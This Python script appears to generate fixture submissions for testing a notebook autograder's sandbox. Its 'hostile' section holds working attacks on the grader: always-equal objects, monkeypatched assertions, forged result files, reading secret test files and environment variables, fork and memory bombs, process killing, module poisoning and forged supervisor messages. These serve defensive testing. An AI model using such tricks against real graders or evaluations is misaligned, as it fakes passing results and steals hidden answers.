#!/usr/bin/env python
"""Example student submissions, built from the released notebook.

Every variant is data: the source of some answer cells (by nbgrader `grade_id`), plus how the
notebook or the file was mangled. The released notebook is copied, the listed cells are replaced,
and the result is written as .ipynb (or as the broken file a student really uploaded).

    python examples/make_submissions.py OUT_DIR      # the example batch: OUT_DIR/<student id>.ipynb
    make_batch(out_dir, n)                           # n files cycling through the variants

The correct answers are the instructor's solution cells of source/ (CORRECT); the other correct
variants are written differently, and the wrong ones are small edits of CORRECT. Most variants
start from FAST: correct answers everywhere except the XOR cell, which keeps its stub, so that
grading them skips the XOR training. The expected outcome of each example is in
examples/expected.yml.
"""

from __future__ import annotations

import copy
import json
import sys
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ROOT = Path(__file__).resolve().parents[1]
RELEASE_NOTEBOOK = ROOT / "release" / "vanishing_gradients" / "vanishing_gradients.ipynb"


def code(text: str) -> str:
    """A cell's source from an indented triple-quoted string."""
    return textwrap.dedent(text).strip("\n")


def indented(spaces: int, text: str) -> str:
    """`code(text)` indented by `spaces`: a piece of a function or class body."""
    return textwrap.indent(code(text), " " * spaces)


def joined(*sources: str) -> str:
    """Several top-level blocks in one cell, two blank lines apart."""
    return "\n\n\n".join(sources)


def edit(source: str, old: str, new: str) -> str:
    """`source` with the one occurrence of `old` replaced: how a variant's bug differs from FAST."""
    if source.count(old) != 1:
        raise ValueError(f"expected exactly one {old!r} in the cell")
    return source.replace(old, new)


# ------------------------------------------------------------------ correct answers

SOURCE_NOTEBOOK = ROOT / "source" / "vanishing_gradients" / "vanishing_gradients.ipynb"
SOLUTION_MARKERS = ("### BEGIN SOLUTION", "### END SOLUTION")


def reference_answers(source: Path = SOURCE_NOTEBOOK) -> dict[str, str]:
    """The instructor's code solution cells by grade_id, as a student who wrote them would hand
    them in: the solution markers gone. (Free-text answers keep the released stub.)"""
    answers = {}
    for cell in nbformat.read(source, as_version=4).cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            lines = [line for line in cell.source.splitlines() if line.strip() not in SOLUTION_MARKERS]
            answers[meta["grade_id"]] = "\n".join(lines)
    return answers


CORRECT = reference_answers()

# The base of every variant that does not concern XOR: its cell keeps the released stub.
FAST: dict[str, str] = {grade_id: source for grade_id, source in CORRECT.items() if grade_id != "q3_3_xor"}


def plots_with(build: str) -> dict[str, str]:
    """The three Part 2 plot cells, building their models with `build` instead of build_model."""
    return {cell: edit(CORRECT[cell], "build_model(", f"{build}(") for cell in ("q2_2_plot", "q2_4_plot", "q2_6_plot")}


# ------------------------------------------------------------------ correct, written differently

SEQUENTIAL_STYLE = {
    "q1_2_sigmoid": code('''
        def my_sigmoid(x):
            """Return the sigmoid activation of the tensor x."""
            return torch.sigmoid(x)


        def my_sigmoid_grad(a):
            """Return the gradient of the sigmoid, given its activation a = my_sigmoid(x)."""
            return a - a ** 2
    '''),
    "q1_4_build_model": code('''
        import copy


        def build_model(activation=nn.Sigmoid()):
            """A bare nn.Sequential, zero biases, a fresh copy of the activation after each hidden layer."""
            layers = []
            for i in range(4):
                linear = nn.Linear(2, 2)
                nn.init.uniform_(linear.weight, -1, 1)
                nn.init.zeros_(linear.bias)
                layers.append(linear)
                if i < 3:
                    layers.append(copy.deepcopy(activation))
            return nn.Sequential(*layers)
    '''),
    "q2_8_glorot": code("""
        import math


        def build_model_glorot(activation=nn.Sigmoid()):
            model = build_model(activation)
            for layer in model:
                if isinstance(layer, nn.Linear):
                    fan_out, fan_in = layer.weight.shape
                    with torch.no_grad():
                        layer.weight.normal_(0.0, math.sqrt(2 / (fan_in + fan_out)))
            return model
    """),
    "q3_2_negative": code('''
        class NegativeInitializer:
            """Counts Linear layers only: target_layer=2 is the third Linear layer."""

            def __init__(self, target_layer):
                self.target_layer = target_layer
                self.linear_seen = 0

            def __call__(self, module):
                if isinstance(module, nn.Linear):
                    if self.linear_seen == self.target_layer:
                        with torch.no_grad():
                            module.weight.copy_(-torch.rand_like(module.weight) - 0.1)
                            module.bias.fill_(-0.5)
                    self.linear_seen += 1
    '''),
    "q3_3_xor": code("""
        def make_xor_model():
            # One wide tanh layer with large initial weights: strong gradients even at lr=1e-3.
            model = nn.Sequential(nn.Linear(2, 32), nn.Tanh(), nn.Linear(32, 1))
            for layer in model:
                if isinstance(layer, nn.Linear):
                    nn.init.normal_(layer.weight, std=2.0)
                    nn.init.zeros_(layer.bias)
            return model
    """),
}

CLASS_ACTIVATION = {
    "q1_2_sigmoid": code("""
        def my_sigmoid(x):
            return torch.special.expit(x)


        def my_sigmoid_grad(a):
            return torch.mul(a, 1 - a)
    """),
    "q1_4_build_model": code('''
        class NeuralNetwork(nn.Module):
            """2-2-2-2-2; `activation` is a class such as nn.Sigmoid."""

            def __init__(self, activation=nn.Sigmoid):
                super().__init__()
                self.layers = nn.Sequential(
                    nn.Linear(2, 2), activation(),
                    nn.Linear(2, 2), activation(),
                    nn.Linear(2, 2), activation(),
                    nn.Linear(2, 2),
                )

            def forward(self, x):
                return self.layers(x)


        def build_model(activation=nn.Sigmoid):
            model = NeuralNetwork(activation)
            for module in model.modules():
                if isinstance(module, nn.Linear):
                    nn.init.uniform_(module.weight, -1, 1)
                    nn.init.uniform_(module.bias, -1, 1)
            return model
    '''),
    # Plots drawn with matplotlib directly, from the helper's gradient data, in other colours.
    "q2_2_plot": code('''
        from vanishing_helpers import gradient_data


        def violin_figure(model, colour):
            """The weight gradients of each layer, without plot_grad."""
            grads = gradient_data(model)
            fig, ax = plt.subplots(figsize=(5, 3))
            parts = ax.violinplot(list(grads.values()), showmeans=True)
            for body in parts["bodies"]:
                body.set_facecolor(colour)
            ax.set_xlabel("Layer")
            ax.set_ylabel("Weight gradient")
            return fig


        model_sig = build_model(nn.Sigmoid)
        fig_sig = violin_figure(model_sig, "tab:orange")
    '''),
    "q2_4_plot": code("""
        model_tanh = build_model(nn.Tanh)
        fig_tanh = violin_figure(model_tanh, "tab:green")
    """),
    "q2_6_plot": code("""
        model_relu = build_model(nn.ReLU)
        fig_relu = violin_figure(model_relu, "tab:red")
    """),
    "q2_8_glorot": code("""
        def build_model_glorot(activation=nn.Sigmoid):
            model = NeuralNetwork(activation)
            for module in model.modules():
                if isinstance(module, nn.Linear):
                    nn.init.xavier_normal_(module.weight)
                    nn.init.zeros_(module.bias)
            return model
    """),
    "q2_8_plots": code("""
        model2_sig, model2_tanh, model2_relu = (build_model_glorot(a) for a in (nn.Sigmoid, nn.Tanh, nn.ReLU))
        fig2_sig = violin_figure(model2_sig, "tab:orange")
        fig2_tanh = violin_figure(model2_tanh, "tab:green")
        fig2_relu = violin_figure(model2_relu, "tab:red")
    """),
    "q3_3_xor": code("""
        def make_xor_model():
            model = nn.Sequential(nn.Linear(2, 32), nn.ReLU(), nn.Linear(32, 32), nn.ReLU(), nn.Linear(32, 1))
            for layer in model:
                if isinstance(layer, nn.Linear):
                    nn.init.kaiming_normal_(layer.weight, nonlinearity="relu")
                    nn.init.uniform_(layer.bias, 0.0, 0.5)  # positive biases: no unit starts dead
            return model
    """),
}

STABLE_SIGMOID = {
    "q1_2_sigmoid": code('''
        def my_sigmoid(x):
            """Numerically stable: exp only ever sees a number <= 0, so it cannot overflow."""
            positive = x >= 0
            z = torch.exp(torch.where(positive, -x, x))
            return torch.where(positive, 1 / (1 + z), z / (1 + z))


        def my_sigmoid_grad(a):
            return a * (1 - a)
    '''),
    "q1_4_build_model": code("""
        class NeuralNetwork(nn.Module):
            def __init__(self, activation=nn.Sigmoid()):
                super().__init__()
                layers = []
                for i in range(4):
                    layers.append(nn.Linear(2, 2))
                    if i < 3:
                        layers.append(activation)  # one instance reused: it has no parameters
                self.net = nn.Sequential(*layers)

            def forward(self, x):
                return self.net(x)


        def init_weights(layer):
            if type(layer) == nn.Linear:
                nn.init.uniform_(layer.weight, a=-1.0, b=1.0)


        def build_model(activation=nn.Sigmoid()):
            model = NeuralNetwork(activation)
            model.apply(init_weights)
            return model
    """),
    "q2_8_glorot": code("""
        def glorot_weights(layer):
            if type(layer) == nn.Linear:
                nn.init.xavier_normal_(layer.weight)


        def build_model_glorot(activation=nn.Sigmoid()):
            model = NeuralNetwork(activation)
            model.apply(glorot_weights)
            return model
    """),
    "q3_3_xor": code("""
        def make_xor_model():
            model = nn.Sequential(nn.Linear(2, 64), nn.ReLU(), nn.Linear(64, 1))
            for layer in model:
                if isinstance(layer, nn.Linear):
                    nn.init.normal_(layer.weight, 0.0, 1.0)
                    nn.init.uniform_(layer.bias, -0.5, 0.5)
            return model
    """),
}

OTHER_DETAILS = {
    "q1_1_tensors": code("""
        x, y = torch.tensor(3), torch.tensor(7)
        z = x * y
        A = torch.empty(3, 3).uniform_(-1, 1)
        b = torch.empty(3, 1).uniform_(-1, 1)
        c = torch.matmul(A, b)
        d = np.array([1, 2, 3]).reshape(3, 1)
        print(c)
        c = c + d
        print(c)
    """),
    "q1_3_autograd": code("""
        a = my_sigmoid(x)
        gradients = my_sigmoid_grad(a)

        x_req = x.clone().requires_grad_()
        (pytorch_gradients,) = torch.autograd.grad(my_sigmoid(x_req).sum(), x_req)
    """),
    "q3_1_depth": code("""
        import statistics


        def first_layer_gradient(depth, activation, seed):
            torch.manual_seed(seed)
            grads = gradient_print(deep_network(depth, activation), seed=seed, verbose=False)
            return grads[0].abs().max().item()


        depths = {}
        for name, activation in (("sigmoid", nn.Sigmoid()), ("tanh", nn.Tanh())):
            depth = 2
            while statistics.median(first_layer_gradient(depth, activation, s) for s in range(5)) >= 1e-6:
                depth += 1
            depths[name] = depth
        sigmoid_depth_without_initializer = depths["sigmoid"]
        tanh_depth_without_initializer = depths["tanh"]
        print("sigmoid:", sigmoid_depth_without_initializer, " tanh:", tanh_depth_without_initializer)
    """),
    "q3_2_negative": code("""
        class NegativeInitializer:
            def __init__(self, target_layer):
                self.visits = 0
                self.target_layer = target_layer

            def __call__(self, module):
                if self.visits == self.target_layer:
                    module.weight.data = -torch.rand_like(module.weight) - 0.01
                    module.bias.data = torch.full_like(module.bias, -1.0)
                self.visits += 1
    """),
    "qb_1_he": code("""
        import math


        def he_init_(model, negative_slope=0.0):
            gain = nn.init.calculate_gain("leaky_relu", negative_slope)
            for layer in model.modules():
                if isinstance(layer, nn.Linear):
                    with torch.no_grad():
                        layer.weight.normal_(0, gain / math.sqrt(layer.in_features))
                        layer.bias.zero_()
            return model
    """),
    "qb_2_saturation": code("""
        def saturation_fraction(model, inputs, threshold=0.99):
            saturated, total = 0, 0
            h = inputs
            with torch.no_grad():
                for layer in model:
                    h = layer(h)
                    if isinstance(layer, nn.Tanh):
                        saturated += int((h.abs() > threshold).sum())
                        total += h.numel()
            return saturated / total if total else 0.0
    """),
    "qb_3_loss": code("""
        import math

        def expected_initial_loss(num_classes):
            return -math.log(1 / num_classes)
    """),
}

# ------------------------------------------------------------------ typical wrong answers

SIGMOID_GRAD_AGAIN = edit(CORRECT["q1_2_sigmoid"], "grad = a * (1 - a)", "grad = my_sigmoid(a) * (1 - my_sigmoid(a))")
D_AS_VECTOR = edit(CORRECT["q1_1_tensors"], "np.array([[1], [2], [3]])", "np.array([1, 2, 3])")
# The "can't call numpy() on a tensor that requires grad" error, silenced with detach(): values
# right, autograd broken.
NUMPY_SIGMOID = edit(CORRECT["q1_2_sigmoid"], "a = 1 / (1 + torch.exp(-x))",
                     "a = torch.tensor(1 / (1 + np.exp(-x.detach().numpy())))")
# The template's stubs: `raise NotImplemented` is a TypeError, not a NotImplementedError.
BONUS_LEFT_AS_TEMPLATE = {
    "qb_1_he": "def he_init_(model, negative_slope=0.0):\n    raise NotImplemented",
    "qb_2_saturation": 'def saturation_fraction(model, inputs, threshold=0.99):\n    raise NotImplemented("bonus")',
}
UNIFORM_0_1 = edit(CORRECT["q1_4_build_model"], "nn.init.uniform_(layer.weight, a=-1.0, b=1.0)",
                   "nn.init.uniform_(layer.weight)")
NEGATIVE_WEIGHTS_ONLY = edit(CORRECT["q3_2_negative"], indented(16, """
    submodule.weight.fill_(-1.0)
    # Negative weights alone leave a positive bias able to open the ReLU.
    if submodule.bias is not None:
        submodule.bias.fill_(-1.0)
"""), indented(16, "submodule.weight.fill_(-0.01)"))
LAST_LINEAR = "            nn.Linear(2, 2),\n        )"
OUTPUT_WIDTH_1 = edit(CORRECT["q1_4_build_model"], LAST_LINEAR, "            nn.Linear(2, 1),\n        )")
ACTIVATION_AFTER_OUTPUT = edit(CORRECT["q1_4_build_model"], LAST_LINEAR,
                               "            nn.Linear(2, 2), activation,\n        )")
TWO_HIDDEN_LAYERS = edit(CORRECT["q1_4_build_model"], "nn.Linear(2, 2), activation,\n            " * 2,
                         "nn.Linear(2, 2), activation,\n            ")
ACTIVATION_IGNORED = edit(CORRECT["q1_4_build_model"], "model = NeuralNetwork(activation)", "model = NeuralNetwork()")
LINEAR_XOR = code("""
    def make_xor_model():
        return nn.Sequential(nn.Linear(2, 8), nn.Linear(8, 1))
""")
TANH_PLOT_OF_SIGMOID_MODEL = edit(CORRECT["q2_4_plot"], "plot_grad(model_tanh)", "plot_grad(model_sig)")

# ------------------------------------------------------------------ hostile answers (attacks on the grader itself)

ALWAYS_EQUAL = code('''
    class AlwaysEqual:
        """Equal to anything; every attribute and call gives itself back."""

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __hash__(self):
            return 0

        def __getattr__(self, name):
            return self

        def __call__(self, *args, **kwargs):
            return self


    def my_sigmoid(x):
        return AlwaysEqual()


    def my_sigmoid_grad(a):
        return AlwaysEqual()
''')
ALWAYS_EQUAL_GRADIENTS = CORRECT["q1_3_autograd"] + "\npytorch_gradients = AlwaysEqual()"

TENSOR_SUBCLASS = code('''
    class Agreeable(torch.Tensor):
        """A tensor whose comparisons always succeed."""

        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.allclose, torch.equal):
                return True
            if func in (torch.isclose, torch.eq, torch.Tensor.__eq__, torch.Tensor.eq):
                return torch.ones(torch.Size(args[0].shape), dtype=torch.bool)
            return super().__torch_function__(func, types, args, kwargs or {})


    def my_sigmoid(x):
        return torch.zeros_like(x).as_subclass(Agreeable)


    def my_sigmoid_grad(a):
        return torch.zeros_like(a).as_subclass(Agreeable)
''')

MONKEYPATCH = code("""
    import builtins

    # Make every comparison a grader might use succeed, then answer anything.
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.isclose = lambda input, other, *args, **kwargs: torch.ones_like(input, dtype=torch.bool)
    torch.testing.assert_close = lambda *args, **kwargs: None
    np.allclose = lambda *args, **kwargs: True
    np.testing.assert_allclose = lambda *args, **kwargs: None
    builtins.AssertionError = type("AssertionError", (Exception,), {})


    def my_sigmoid(x):
        return x * 0 + 0.5


    def my_sigmoid_grad(a):
        return a * 0 + 0.25
""")

# Where a naive grader (Gradescope's, or one without a sandbox) may read the score; relative
# paths are taken from the working directory.
FORGED_RESULT_PATHS = ("/autograder/results/results.json", "/tmp/results.json", "results.json", "out/results.json")
FORGED_RESULTS = code(f"""
    import json
    import os

    forged = {{"score": 100.0, "output": "All tests passed.", "tests": []}}
    for path in map(os.path.abspath, {FORGED_RESULT_PATHS!r}):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                json.dump(forged, file)
        except OSError:
            pass
    os._exit(0)  # before any test can run
""")

READ_SECRETS = code("""
    import glob
    import os
    import sys

    SECRETS = ("autograder/tests/test_part1.py", "solutions/reference_solutions.py", "grading_config.yml")


    def steal():
        found = []
        # Known layouts, where the grader runs from, and a glob over / a few levels deep.
        roots = {"/work/main", "/autograder/source", os.getcwd(), *(os.path.dirname(p) for p in sys.path if p)}
        candidates = {os.path.join(root, name) for root in roots for name in SECRETS}
        for depth in range(4):
            candidates.update(p for name in SECRETS for p in glob.glob("/" + "*/" * depth + name))
        for path in sorted(candidates) + ["/proc/1/environ", "/proc/self/environ"]:
            try:
                with open(path, errors="replace") as file:
                    found.append(f"{path}: {file.read(300)}")
            except OSError as exc:
                if not isinstance(exc, FileNotFoundError):
                    found.append(f"{path}: {exc}")
        found.append(f"environment: {dict(os.environ)}")
        return "\\n".join(found)


    STOLEN = steal()
    print(STOLEN)


    def expected_initial_loss(num_classes):
        raise RuntimeError(STOLEN)  # the feedback shows an exception's message
""")

# Loopback only: the test module listens on one of these ports and counts connections.
PHONE_HOME_PORTS = range(47600, 47610)
PHONE_HOME = joined(code(f"""
    import socket


    def phone_home(message):
        for port in {PHONE_HOME_PORTS!r}:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.5) as conn:
                    conn.sendall(message)
            except OSError as exc:
                print(port, exc)


    phone_home(b"hello from the notebook")
"""), edit(CORRECT["qb_2_saturation"], "    outputs = []\n",
                "    phone_home(repr(inputs[:2]).encode())  # the hidden inputs\n    outputs = []\n"))

FORK_BOMB = joined(code("""
    import os
    import time

    children = 0
    try:
        for _ in range(500):  # bounded, so that it stops even without a sandbox
            if os.fork() == 0:
                time.sleep(2)
                os._exit(0)
            children += 1
    except OSError as exc:
        print(f"fork failed after {children} children: {exc}")
"""), CORRECT["qb_1_he"])

MEMORY_BOMB = code("""
    try:
        reserve = bytearray(8 << 30)
    except MemoryError:
        reserve = None
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
""")

# Bisection on floats: low and high end up adjacent, the midpoint is one of them, and the
# loop never ends. Only a call of the function hangs.
HANGING_FUNCTION = code("""
    import math


    def expected_initial_loss(num_classes):
        low, high = 0.0, float(num_classes)
        while high - low > 0:
            mid = (low + high) / 2
            if math.exp(mid) < num_classes:
                low = mid
            else:
                high = mid
        return low
""")
# The depth is never increased: the cell itself loops forever.
HANGING_CELL = edit(CORRECT["q3_1_depth"], indented(4, """
    for depth in range(2, 26):
        median = float(np.median([first_layer_gradient(depth, activation, seed) for seed in range(5)]))
        if median < threshold:
            return depth
    return None
"""), indented(4, """
    depth = 2
    while float(np.median([first_layer_gradient(depth, activation, seed) for seed in range(5)])) >= threshold:
        pass
    return depth
"""))
# The student's own extra cell: ReLU gradients never die, so this loops forever too.
RELU_DEPTH = "# and for ReLU?\nrelu_depth = smallest_dying_depth(nn.ReLU())"

HUGE_OUTPUT = joined(code("""
    import os

    print("x" * (50 << 20))
    os.write(1, b"y" * (50 << 20))
"""), edit(CORRECT["q1_4_build_model"], "    model = NeuralNetwork(activation)\n",
           '    print("#" * (1 << 20))\n    model = NeuralNetwork(activation)\n'))

KILL_PROCESSES = joined(code("""
    import os
    import signal

    # The grader is a Python process: kill the parent and every Python process in sight.
    targets = {os.getppid()} if os.getppid() > 1 else set()
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and b"python" in open(f"/proc/{entry}/cmdline", "rb").read():
                targets.add(int(entry))
        except OSError:
            pass
    for pid in targets - {os.getpid()}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as exc:
            print(pid, exc)
"""), CORRECT["q2_6_plot"])

POISON_MODULES = joined(code("""
    import sys
    import types

    # Replace whatever a grader might import to check answers by something that accepts anything.
    fake = types.ModuleType("reference_solutions")
    fake.kill_gradients = lambda model: model
    for name in ("reference_solutions", "conftest", "test_part3", "pytest", "gradelab.hidden"):
        sys.modules[name] = fake
    torch.testing.assert_close = lambda *args, **kwargs: None
"""), edit(CORRECT["q3_1_deep"], "    model.apply(Initializer(target_layer=0, multiplier=10.0))\n",
                                "    # the poisoned checks will accept the model as it is\n"))
GC_WALK = code('''
    import gc

    # Look for the grader's reference NegativeInitializer among the live objects.
    reference = next((obj for obj in gc.get_objects() if isinstance(obj, type)
                      and obj.__name__ == "NegativeInitializer" and obj.__module__ != "__main__"), None)
    if reference is not None:
        NegativeInitializer = reference
    else:
        class NegativeInitializer:
            def __init__(self, target_layer):
                self.target_layer = target_layer

            def __call__(self, module):
                pass  # to do
''')

# Attacks on the trusted side: the grader's own code runs inside the sandbox too, so a cell can
# reach its sockets and forge what the supervisor and the test runner read.
_SANDBOX_INTERNALS = """
    import gc
    import os
    import socket
    import stat


    def is_socket(fd):
        try:
            return stat.S_ISSOCK(os.fstat(fd).st_mode)
        except OSError:
            return False


    # The sandbox's notebook runner, and its socket to the supervisor (the first of its two sockets).
    runner = next(o for o in gc.get_objects() if type(o).__name__ == "NotebookRunner")
    ctl = socket.socket(fileno=os.dup(next(fd for fd in range(3, 256) if is_socket(fd))))
"""

FORGED_CELL_REPORT = code(_SANDBOX_INTERNALS + """
    from gradelab.boundary import wire

    # This cell's report, before gradelab's own: it took NaN seconds, and its error is a string.
    wire.send_msg(ctl, {"event": "cell_end", "cell": {
        "index": max(runner.sources), "status": "error", "seconds": float("nan"), "error": "boom"}})
""")

FORGED_FIGURES = code(_SANDBOX_INTERNALS + """
    from gradelab.sandbox import executor

    # 200,000 figures of 4 bytes and one whose cell is not a number, past the sandbox's own limits.
    executor._sendable = lambda figures: figures
    runner.figures.extend([{"cell": "one", "index": 0, "error": "forged"}]
                          + [{"cell": 0, "index": k, "png": b"\\x89PNG"} for k in range(200_000)])
""")

FORGED_REPLIES = code("""
    from gradelab.boundary import messages, wire

    # Every reply to the hidden tests says "ok" and that the call took -5 seconds.
    _send = messages.send

    def send(sock, record):
        if isinstance(record, messages.RpcReply):
            return wire.send_msg(sock, {"ok": True, "value": 1.0, "seconds": -5.0})
        return _send(sock, record)

    messages.send = send
""")

HUGE_REPORT = code(_SANDBOX_INTERNALS + """
    import struct

    # A frame that claims to hold 100 GiB: the supervisor must refuse it before reading it.
    ctl.sendall(struct.pack("<Q", 100 << 30))
""")

# ------------------------------------------------------------------ answers that crash when called

SIGMOID_SYSTEM_EXIT = edit(CORRECT["q1_2_sigmoid"], "a = 1 / (1 + torch.exp(-x))", "raise SystemExit(0)")
KILL_GRADIENTS_INTERRUPT = edit(CORRECT["q3_1_deep"], "    model.apply(Initializer(target_layer=0, multiplier=10.0))\n",
                                "    raise KeyboardInterrupt\n")
SIGMOID_GRAD_OS_EXIT = joined("import os", edit(CORRECT["q1_2_sigmoid"], "grad = a * (1 - a)", "grad = os._exit(0)"))
D_STRING = CORRECT["q1_1_tensors"] + '\nd = "1 2 3"'
# Every answer of the right name and the wrong type: each test says what is wrong with the value.
WRONG_TYPES = {
    "q1_1_tensors": code("""
        x = torch.tensor(3.0)
        y = "7"
        z = [21]
        A = [[0.5, -0.5, 0.1]] * 3
        b = (0.1, 0.2, 0.3)
        c = None
        d = "1 2 3"
    """),
    "q1_2_sigmoid": 'my_sigmoid = 5\nmy_sigmoid_grad = "a * (1 - a)"',
    "q1_3_autograd": "pytorch_gradients = [0.25] * 100",
    "q1_4_build_model": code("""
        def build_model(activation=nn.Sigmoid()):
            return "a 2-2-2-2-2 network"
    """),
    "q2_2_plot": 'model_sig, fig_sig = "sigmoid model", "sigmoid figure"',
    "q2_4_plot": "model_tanh, fig_tanh = None, None",
    "q2_6_plot": "model_relu, fig_relu = [nn.Linear(2, 2), nn.ReLU()], 6",
    "q2_8_glorot": code("""
        def build_model_glorot(activation=nn.Sigmoid()):
            return [nn.Linear(2, 2), activation, nn.Linear(2, 2)]
    """),
    "q2_8_plots": 'model2_sig, model2_tanh, model2_relu = 1, 2.5, {"relu": 3}\nfig2_sig = fig2_tanh = fig2_relu = None',
    "q3_1_deep": code("""
        def deep_network(depth, activation=nn.Sigmoid()):
            return {"depth": depth}


        kill_gradients = "zero the first layer"
    """),
    "q3_1_depth": 'sigmoid_depth_without_initializer = "7"\ntanh_depth_without_initializer = 7.5',
    "q3_2_negative": code("""
        def NegativeInitializer(module):
            if isinstance(module, nn.Linear):
                module.weight.data.fill_(-1.0)
    """),
    "q3_3_xor": code("""
        def make_xor_model():
            return [nn.Linear(2, 8), nn.Tanh(), nn.Linear(8, 1)]
    """),
    "qb_1_he": "he_init_ = None",
    "qb_2_saturation": code("""
        def saturation_fraction(model, inputs, threshold=0.99):
            return "12%"
    """),
    "qb_3_loss": code("""
        def expected_initial_loss(num_classes):
            return 10 ** 400
    """),
}

# ------------------------------------------------------------------ broken files

NOT_JSON = code("""
    Jupyter would not save my notebook, so here are my answers:

    def my_sigmoid(x):
        return 1 / (1 + torch.exp(-x))
""")
JSON_NOT_NOTEBOOK = json.dumps({"student": "ada", "answers": {"q1_2": "1 / (1 + torch.exp(-x))"}}, indent=1)

EXTRA_CELLS = {
    "q1_2_sigmoid": "# trying it out\nprint(my_sigmoid(torch.tensor([-1.0, 0.0, 1.0])))",
    "q3_1_depth": "import time\nprint('finished at', time.strftime('%H:%M'))",
    "qb_3_loss": "print(expected_initial_loss(10))",
}


# ------------------------------------------------------------------ variants


@dataclass(frozen=True)
class Variant:
    """One kind of submission: answers (grade_id -> cell source) and how it was mangled."""

    answers: Mapping[str, str] = field(default_factory=dict)
    swap: tuple[str, str] | None = None  # two cells exchanged
    delete: tuple[str, ...] = ()
    duplicate: tuple[str, ...] = ()  # each copy right after its original
    to_markdown: tuple[str, ...] = ()  # code cells turned into markdown cells
    extra_cells: Mapping[str, str] = field(default_factory=dict)  # the student's own cell after grade_id
    nbformat: int = 4  # 3: saved by a very old Jupyter
    truncate: bool = False  # only the first half of the file (an interrupted upload)
    file_text: str | None = None  # not a notebook at all: the file's whole text


VARIANTS: dict[str, Variant] = {
    # correct, written differently from the reference
    "correct_sequential_style": Variant({**CORRECT, **SEQUENTIAL_STYLE}),
    "correct_class_activation": Variant({**CORRECT, **CLASS_ACTIVATION}),
    "correct_stable_sigmoid": Variant({**CORRECT, **STABLE_SIGMOID}),
    "correct_other_details": Variant({**CORRECT, **OTHER_DETAILS}),
    # typical wrong answers
    "wrong_grad_again_d_vector": Variant({**FAST, "q1_2_sigmoid": SIGMOID_GRAD_AGAIN, "q1_1_tensors": D_AS_VECTOR}),
    "wrong_numpy_sigmoid_template_bonus": Variant({**FAST, "q1_2_sigmoid": NUMPY_SIGMOID, **BONUS_LEFT_AS_TEMPLATE}),
    "wrong_uniform_0_1_weights_only": Variant({**FAST, "q1_4_build_model": UNIFORM_0_1,
                                               "q3_2_negative": NEGATIVE_WEIGHTS_ONLY}),
    "wrong_output_width_1": Variant({**FAST, "q1_4_build_model": OUTPUT_WIDTH_1}),
    "wrong_activation_after_output": Variant({**FAST, "q1_4_build_model": ACTIVATION_AFTER_OUTPUT}),
    "wrong_two_hidden_layers": Variant({**FAST, "q1_4_build_model": TWO_HIDDEN_LAYERS}),
    # The tanh and ReLU plots are left undone: with the activation ignored they would show sigmoid models.
    "wrong_activation_ignored": Variant({**{k: v for k, v in FAST.items() if k not in ("q2_4_plot", "q2_6_plot")},
                                         "q1_4_build_model": ACTIVATION_IGNORED}),
    "wrong_linear_xor_plot_of_wrong_model": Variant({**CORRECT, "q3_3_xor": LINEAR_XOR,
                                                     "q2_4_plot": TANH_PLOT_OF_SIGMOID_MODEL}),
    # hostile, each in the student's own answer cells
    "hostile_always_equal": Variant({**FAST, "q1_2_sigmoid": ALWAYS_EQUAL, "q1_3_autograd": ALWAYS_EQUAL_GRADIENTS}),
    "hostile_tensor_subclass": Variant({**FAST, "q1_2_sigmoid": TENSOR_SUBCLASS}),
    "hostile_monkeypatch": Variant({**FAST, "q1_2_sigmoid": MONKEYPATCH}),
    "hostile_forged_results": Variant({**FAST, "q1_1_tensors": FORGED_RESULTS}),
    "hostile_read_secrets": Variant({**FAST, "qb_3_loss": READ_SECRETS}),
    "hostile_network": Variant({**FAST, "qb_2_saturation": PHONE_HOME}),
    "hostile_fork_bomb": Variant({**FAST, "qb_1_he": FORK_BOMB}),
    "hostile_memory_bomb": Variant({**FAST, "q3_2_negative": MEMORY_BOMB}),
    "hostile_infinite_loops": Variant({**FAST, "qb_3_loss": HANGING_FUNCTION, "q3_1_depth": HANGING_CELL},
                                      extra_cells={"q3_1_depth": RELU_DEPTH}),
    "hostile_huge_output": Variant({**FAST, "q1_4_build_model": HUGE_OUTPUT}),
    "hostile_kill_processes": Variant({**FAST, "q2_6_plot": KILL_PROCESSES}),
    "hostile_poison_and_gc_walk": Variant({**FAST, "q3_1_deep": POISON_MODULES, "q3_2_negative": GC_WALK}),
    "hostile_forged_cell_report": Variant(FAST, extra_cells={"q1_1_tensors": FORGED_CELL_REPORT}),
    "hostile_forged_figures": Variant(FAST, extra_cells={"q2_2_plot": FORGED_FIGURES}),
    "hostile_forged_replies": Variant(FAST, extra_cells={"q1_1_tensors": FORGED_REPLIES}),
    "hostile_huge_report": Variant(FAST, extra_cells={"q1_2_sigmoid": HUGE_REPORT}),
    # answers that crash when called or have the wrong type: each costs only the tests that use it
    "crash_sigmoid_system_exit": Variant({**FAST, "q1_2_sigmoid": SIGMOID_SYSTEM_EXIT}),
    "crash_kill_gradients_keyboard_interrupt": Variant({**FAST, "q3_1_deep": KILL_GRADIENTS_INTERRUPT}),
    "crash_sigmoid_grad_os_exit": Variant({**FAST, "q1_2_sigmoid": SIGMOID_GRAD_OS_EXIT}),
    "wrong_type_d_string": Variant({**FAST, "q1_1_tensors": D_STRING}),
    "wrong_types_everywhere": Variant({**CORRECT, **WRONG_TYPES}),
    # broken files and mangled notebooks
    "broken_not_json": Variant(file_text=NOT_JSON),
    "broken_truncated": Variant(FAST, truncate=True),
    "broken_json_not_notebook": Variant(file_text=JSON_NOT_NOTEBOOK),
    "broken_empty": Variant(file_text=""),
    "old_format_v3": Variant(FAST, nbformat=3),
    "mangled_reordered_deleted_duplicated": Variant(FAST, swap=("q1_4_build_model", "q2_2_plot"),
                                                    delete=("q1_3_autograd",), duplicate=("q1_2_sigmoid",)),
    "mangled_markdown_extra_renamed": Variant(
        {**FAST, "q1_4_build_model": edit(CORRECT["q1_4_build_model"], "def build_model(", "def build_network("),
         **plots_with("build_network")},
